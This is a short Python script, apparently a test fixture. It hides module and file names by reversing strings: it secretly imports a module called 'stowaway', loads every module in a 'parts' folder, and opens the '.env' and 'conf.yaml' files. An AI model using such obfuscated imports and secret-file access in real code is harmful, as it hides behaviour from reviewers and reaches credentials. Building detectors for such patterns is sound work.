import importlib
import os

import declared

for name in sorted(os.listdir("strap"[::-1])):
    if name.endswith(".py") and name != "__init__.py":
        importlib.import_module(".strap"[::-1] + name[:-3])
__import__("yawawots"[::-1])
for name in ["lmay.fnoc", "vne."]:
    open(name[::-1]).close()
